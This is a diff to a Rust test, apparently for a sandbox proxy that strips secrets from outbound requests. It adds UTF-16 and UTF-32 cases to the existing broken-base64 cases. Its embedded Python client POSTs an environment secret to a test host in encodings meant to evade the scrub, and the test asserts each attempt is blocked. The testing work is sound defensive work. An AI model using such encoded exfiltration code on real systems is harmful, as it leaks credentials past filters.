@@ -1,8 +1,9 @@
 //! A real value that code inside holds (passed in by mistake) leaving
-//! towards a host that is not its own, as base64 broken across lines the
-//! way the response scrub reads it: MIME's CRLF, PEM inside YAML, a JSON
-//! string's escaped line breaks, groups set apart by spaces; the sandbox
-//! choosing where the value falls against each break. A secret's real
+//! towards a host that is not its own in the forms the response scrub
+//! reads: base64 broken across lines (MIME's CRLF, PEM inside YAML, a
+//! JSON string's escaped line breaks, groups set apart by spaces; the
+//! sandbox choosing where the value falls against each break), and
+//! UTF-16 and UTF-32. A secret's real
 //! value goes out only where the proxy put it in for its own host; here
 //! each request must be refused or cut before the value leaves, through a
 //! real sandbox to a real raw server.
@@ -20,9 +21,14 @@ const OUT_BREAKS: [(&str, usize, &str, bool); 5] = [
     ("narrow", 3, "\r\n\r\n", false),
 ];
 
+/// The wide encodings the response scrub reads a value in, as Python
+/// names them.
+const WIDE: [&str; 4] = ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"];
+
 /// A client inside the sandbox that POSTs to `HOST`, for each break and
 /// each pad, `$LEAKED` after the pad's bytes, base64 broken as the break
-/// says; it prints each answer's status line after a `=== N` line.
+/// says, then `$LEAKED` in each [`WIDE`] encoding; it prints each
+/// answer's status line after a `=== N` line.
 fn leaking_client(port: u16, pads: &[usize]) -> String {
     let breaks: Vec<String> = OUT_BREAKS
         .iter()
@@ -57,8 +63,27 @@ for width, sep, js in [{breaks}]:
         print("=== %d" % i)
         print(data.decode("latin-1").split("\r\n")[0])
         i += 1
+for enc in {wide:?}:
+    body = ("A" + os.environ["LEAKED"] + "!tail").encode(enc)
+    r = "POST /store HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Type: text/plain; charset=%s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (enc, len(body))
+    s = ctx.wrap_socket(socket.create_connection(("{HOST}", {port})), server_hostname="{HOST}")
+    s.sendall(r.encode() + body)
+    data = b""
+    s.settimeout(20)
+    try:
+        while True:
+            b = s.recv(65536)
+            if not b:
+                break
+            data += b
+    except Exception:
+        pass
+    print("=== %d" % i)
+    print(data.decode("latin-1").split("\r\n")[0])
+    i += 1
 PY
 "#,
+        wide = WIDE,
         breaks = breaks.join(", ")
     )
 }
@@ -79,7 +104,7 @@ fn decoded_as_far_as_whole(body: &[u8]) -> Vec<u8> {
 }
 
 #[test]
-fn a_real_value_never_leaves_towards_another_host_as_broken_base64() {
+fn a_real_value_never_leaves_towards_another_host_as_broken_base64_or_in_a_wide_encoding() {
     if !egress_available()
         || !Command::new("python3")
             .arg("-V")
@@ -115,23 +140,42 @@ fn a_real_value_never_leaves_towards_another_host_as_broken_base64() {
         .unwrap();
     let s = stdout(&out);
     assert!(out.status.success(), "{s}\n{}", stderr(&out));
-    let total = OUT_BREAKS.len() * pads.len();
-    for i in 0..total {
-        let (name, ..) = OUT_BREAKS[i / pads.len()];
+    let broken = OUT_BREAKS.len() * pads.len();
+    for i in 0..broken + WIDE.len() {
+        let what = match i.checked_sub(broken) {
+            None => format!(
+                "{}, {} before the value",
+                OUT_BREAKS[i / pads.len()].0,
+                pads[i % pads.len()]
+            ),
+            Some(w) => WIDE[w].to_string(),
+        };
         let status = section(&s, i);
         // Refused whole, or cut where the value starts (its head may
         // have gone, the value never).
         assert!(
             status.starts_with("HTTP/1.1 403") || status.starts_with("HTTP/1.1 502"),
-            "{name}, {} before the value: it left: {status}\n{}",
-            pads[i % pads.len()],
+            "{what}: it left: {status}\n{}",
             stderr(&out)
         );
     }
+    let wide: Vec<Vec<u8>> = vec![
+        value.encode_utf16().flat_map(u16::to_le_bytes).collect(),
+        value.encode_utf16().flat_map(u16::to_be_bytes).collect(),
+        value
+            .chars()
+            .flat_map(|c| u32::from(c).to_le_bytes())
+            .collect(),
+        value
+            .chars()
+            .flat_map(|c| u32::from(c).to_be_bytes())
+            .collect(),
+    ];
     for r in up.requests() {
         let data = decoded_as_far_as_whole(&r.body);
         assert!(
-            !String::from_utf8_lossy(&data).contains(&value),
+            !String::from_utf8_lossy(&data).contains(&value)
+                && !wide.iter().any(|w| r.body.windows(w.len()).any(|x| x == w)),
             "the value reached {HOST}: {}",
             String::from_utf8_lossy(&r.body)
         );
